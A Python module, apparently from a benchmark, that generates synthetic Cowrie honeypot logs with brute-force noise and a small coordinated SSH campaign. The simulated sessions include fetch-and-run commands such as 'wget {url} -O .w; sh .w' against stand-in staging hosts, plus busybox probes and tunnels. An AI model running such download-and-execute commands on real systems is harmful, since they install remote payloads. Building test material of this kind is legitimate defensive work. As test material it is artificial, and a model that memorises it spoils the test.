"""The Cowrie logs of the sample case: two sensors, two days, one small campaign among the usual noise."""

from random import Random

from bench.lines import Clock, Rendered, Sensor, Session, client_version, key_exchange, login, public_key
from bench.sampling import DAY, SECOND, digest_text
from bench.sessions import Fetched, Script, Traffic
from bench.vocabulary import CIPHERS, DIGESTS, EXCHANGES, KEYS, Client

SEED = 1822
HOUR = 3_600 * SECOND
FIRST_DAY = "2025-03-09T00:00:00"
EAST = Sensor("harbour-east", "5b0e3f0a-7c1d-4a66-9a53-1f0c6f1d2e01", "10.77.1.2")
WEST = Sensor("harbour-west", "5b0e3f0a-7c1d-4a66-9a53-1f0c6f1d2e02", "10.77.2.2")

STAGING = "203.0.113.77"
MEMBERS = tuple(f"198.51.100.{host}" for host in (21, 34, 58, 77, 103, 140, 166, 201))
VISITORS = (*(f"192.0.2.{host}" for host in range(10, 30)), "2001:db8:5::b0a7")
RARE_PAIRS = (("lampwright", "Fresnel-1822!"), ("keeper", "w1ck&w4x"))
PAYLOAD = digest_text("harbour lantern", "wick.sh")
URLS = (f"http://{STAGING}/lantern/wick.sh", "http://dl.lantern-harbour.example/lantern/wick.sh")
COMMON_PAYLOAD = ("http://192.0.2.200/bins.sh", digest_text("harbour lantern", "bins.sh"))

WICK_CLIENT = Client("SSH-2.0-libssh_0.9.6-wick", EXCHANGES[2:7], KEYS[1:4], CIPHERS[3:7], DIGESTS[1:4])
COMMON_CLIENTS = (
    Client("SSH-2.0-Go", EXCHANGES[:7], KEYS[:4], CIPHERS[:6], DIGESTS[:4]),
    Client("SSH-2.0-libssh2_1.10.0", EXCHANGES[2:], KEYS, CIPHERS[3:], DIGESTS[1:]),
    Client("SSH-2.0-OpenSSH_8.2p1", EXCHANGES[:6], KEYS[:5], CIPHERS[:6], DIGESTS[:3]),
)
COMMON_PAIRS = (("root", "123456"), ("root", "admin"), ("admin", "admin"), ("pi", "raspberry"), ("test", "test"))


class _Log:
    """Performs sessions into one list of lines per sensor."""

    def __init__(self) -> None:
        self.random = Random(SEED)
        self.traffic = Traffic(SEED, self.random)
        self.clock = Clock(FIRST_DAY)
        self.lines: dict[str, list[Rendered]] = {EAST.name: [], WEST.name: []}

    def perform(self, sensor: Sensor, moment: int, source: str, script: Script) -> None:
        identifier = f"{self.random.getrandbits(48):012x}"
        lines = self.lines[sensor.name]
        session = Session(self.clock, sensor.fields, sensor.address, identifier, source, script.protocol, moment, lines)
        self.traffic.perform(session, script)


def cowrie_logs() -> dict[str, bytes]:
    """The east sensor's first day (rotated, compressed) and second day, and the west sensor's second day."""
    log = _Log()
    _rehearsal(log)
    _noise(log)
    _campaign(log)
    return {
        "cowrie/harbour-east/cowrie.json.2025-03-09.gz": _text(log.lines[EAST.name], 0, DAY),
        "cowrie/harbour-east/cowrie.json": _text(log.lines[EAST.name], DAY, 2 * DAY),
        "cowrie/harbour-west/cowrie.json": _text(log.lines[WEST.name], DAY, 2 * DAY),
    }


def damaged_log() -> bytes:
    """One sound session around a line cut by a full disk, an impossible time and a line that is no JSON."""
    log = _Log()
    script = _guessing(log, 3, COMMON_CLIENTS[1])
    log.perform(WEST, DAY + 21 * HOUR, VISITORS[7], script)
    lines = [line for _, line in sorted(log.lines[WEST.name])]
    impossible = lines[-1].replace('"timestamp":"2025-03-10T21', '"timestamp":"2025-13-40T27')
    cut = lines[4][: len(lines[4]) * 2 // 3].rstrip() + "\n"
    lines[4:4] = [cut, "rsyslogd: cannot write: no space left on device\n", impossible]
    return "".join(lines).encode()


def _text(lines: list[Rendered], begin: int, end: int) -> bytes:
    return "".join(line for moment, line in sorted(lines) if begin <= moment < end).encode()


def _hello(client: Client) -> tuple[str, ...]:
    return client_version(client.version), key_exchange(client)


def _rehearsal(log: _Log) -> None:
    """Somebody at the staging host tries the door by hand the night before."""
    script = Script(hello=_hello(WICK_CLIENT), interactive=True, admitted=True)
    script.attempts = [login(*RARE_PAIRS[1]), login(*RARE_PAIRS[0], succeeded=True)]
    typed = ("whoami", "uname -a", "ls -la /var/tmp", "cat /etc/os-release", "exit")
    script.commands = [(text, None) for text in typed]
    script.uploads = [("/var/tmp/wick.sh", PAYLOAD)]  # noqa: S108 - a name in the log, no file here
    script.idles = 240.0  # so that the session ends in the next day's file
    log.perform(EAST, 23 * HOUR + 57 * 60 * SECOND, STAGING, script)


def _campaign(log: _Log) -> None:
    """Eight sources visit both sensors within the hour, with rare credentials, and fetch the same file."""
    for number, member in enumerate(MEMBERS):
        for sensor, hour in ((EAST, 3), (WEST, 4)):
            moment = DAY + hour * HOUR + number * 190 * SECOND + int(log.random.random() * 120 * SECOND)
            log.perform(sensor, moment, member, _member(number, sensor))


def _member(number: int, sensor: Sensor) -> Script:
    url = URLS[number % 4 == 3]
    script = Script(hello=_hello(WICK_CLIENT), admitted=True)
    script.attempts = [login(*RARE_PAIRS[number % 2], succeeded=True)]
    if number % 3 == 0:
        script.attempts.insert(0, login(*RARE_PAIRS[1 - number % 2]))
    script.commands = [(f"cd /tmp; wget {url} -O .w; sh .w", (url, PAYLOAD))]
    if number % 2:
        script.commands.insert(0, ("uname -a", None))
    mark = digest_text("mark", number, sensor.name)[:8]
    script.commands.append((f"echo {mark} > /var/tmp/.lantern", None))
    return script


def _noise(log: _Log) -> None:
    """Visitors with nothing in common but everybody's habits."""
    for number, visitor in enumerate(VISITORS):
        sensor, day = ((EAST, 0), (EAST, 1), (WEST, 1))[number % 3]
        moment = day * DAY + int((1 + number * 19 % 21 + log.random.random()) * HOUR)
        log.perform(sensor, moment, visitor, _visit(log, number))
    log.perform(WEST, DAY + 13 * HOUR, VISITORS[0], _guessing(log, 6, COMMON_CLIENTS[0]))
    log.perform(EAST, DAY + 23 * HOUR, VISITORS[3], _guessing(log, 9, COMMON_CLIENTS[0]))


def _visit(log: _Log, number: int) -> Script:
    client = COMMON_CLIENTS[number % len(COMMON_CLIENTS)]
    succeeded = login(*COMMON_PAIRS[number % 5], succeeded=True)
    match number % 7:
        case 0 | 1:
            return _guessing(log, 3 + number % 4, client)
        case 2:
            return Script(hello=_hello(client)[: number % 2], idles=1.5)
        case 3:
            commands: list[tuple[str, Fetched | None]] = [
                (text, None) for text in ("enable", "system", "shell", "sh", "/bin/busybox ECCHI")
            ]
            return Script(protocol="telnet", attempts=[login("root", "xc3511"), succeeded], admitted=True,
                          commands=commands, idles=4.0)  # fmt: skip
        case 4:
            fetch = (f"wget -q {COMMON_PAYLOAD[0]}", COMMON_PAYLOAD)
            return Script(hello=_hello(client), attempts=[succeeded], admitted=True,
                          commands=[("uname -a", None), ("nproc", None), fetch], leaves_key=number > 10)  # fmt: skip
        case 5:
            return Script(hello=_hello(client), attempts=[succeeded], admitted=True,
                          tunnels=[("mail.wickandwax.test", 25), ("192.0.2.240", 80)])  # fmt: skip
    return Script(hello=_hello(client), attempts=[login("admin", "admin123")], idles=120.0)


def _guessing(log: _Log, count: int, client: Client) -> Script:
    key = [*public_key("root", "harbour noise")] if count == 6 else []
    pairs = [COMMON_PAIRS[int(log.random.random() * len(COMMON_PAIRS))] for _ in range(count)]
    return Script(hello=_hello(client), attempts=[*key, *(login(*pair) for pair in pairs)], idles=1.0)
